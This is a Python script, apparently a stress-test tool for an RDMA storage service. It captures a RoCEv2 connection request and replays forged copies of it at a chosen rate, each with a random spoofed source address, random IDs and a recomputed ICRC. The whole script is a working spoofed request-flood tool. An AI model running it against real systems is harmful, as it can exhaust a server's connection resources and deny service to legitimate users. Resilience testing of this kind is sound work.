#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Sends connection requests with forged source addresses, each from another network, identity and
queue pair, as a host can do that does not need the replies. The first request that another host
sends to the store is the template. Prints `sending` when it starts; runs until it is killed.

usage: spoof.py STORE-INTERFACE INTERFACE REQUESTS-PER-SECOND
"""

import os
import random
import socket
import struct
import sys
import time
import zlib

ETH_P_ALL = 3
IP = 14
UDP = IP + 20
BTH = UDP + 8
MAD = BTH + 12 + 8     # after the datagram's header
ICRC = MAD + 256
REQ = 0x0010
MAC = bytes((2, 0, 0, 0, 0, 66))
IDENTITY = MAD + 248   # in struct xfer_private, after the 36 bytes of the CM


def icrc(frame):
    """The ICRC of a packet, over the fields that routers do not change."""
    masked = bytearray(b'\xff' * 8 + frame[IP:ICRC])
    for at in (1, 8, 10, 11, UDP - IP + 6, UDP - IP + 7, BTH - IP + 4):
        masked[8 + at] = 0xff
    return zlib.crc32(masked).to_bytes(4, 'little')


def is_request(frame):
    return len(frame) == ICRC + 4 and frame[12:14] == b'\x08\x00' and frame[IP + 9] == 17 and \
        frame[UDP + 2:UDP + 4] == (4791).to_bytes(2, 'big') and \
        struct.unpack_from('>H', frame, MAD + 16)[0] == REQ and frame[ICRC:] == icrc(frame)


def listen(interface):
    port = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    port.bind((interface, ETH_P_ALL))
    return port


def forge(model):
    frame = bytearray(model)
    # in 100.64.0.0/10, which no host here uses
    address = bytes((100, random.randrange(64, 128), *random.randbytes(2)))
    frame[6:12] = MAC
    frame[IP + 12:IP + 16] = address
    frame[IP + 10:IP + 12] = bytes(2)
    total = sum(struct.unpack_from('>10H', frame, IP))
    total = (total & 0xffff) + (total >> 16)
    struct.pack_into('>H', frame, IP + 10, ~(total + (total >> 16)) & 0xffff)
    frame[MAD + 8:MAD + 16] = random.randbytes(8)        # transaction ID
    frame[MAD + 24:MAD + 28] = random.randbytes(4)       # communication ID
    frame[MAD + 56:MAD + 59] = random.randbytes(3)       # queue pair
    frame[MAD + 68:MAD + 71] = random.randbytes(3)       # PSN
    frame[MAD + 92:MAD + 96] = address                   # in the GID
    frame[MAD + 180:MAD + 184] = address                 # the same again
    frame[IDENTITY:IDENTITY + 8] = random.randbytes(8)
    frame[ICRC:] = icrc(frame)
    return frame


def main():
    there, here, rate = sys.argv[1], sys.argv[2], float(sys.argv[3])
    with listen(there) as port:
        while not is_request(model := port.recv(2048)):
            pass
    print('sending', flush=True)
    due = time.monotonic()
    with listen(here) as port:
        while True:
            try:
                port.send(forge(model))
            except OSError:
                pass  # its queue is full
            due = max(due + 1 / rate, time.monotonic() - 1)
            time.sleep(max(0, due - time.monotonic()))


if __name__ == '__main__':
    try:
        main()
    except KeyboardInterrupt:
        os._exit(1)
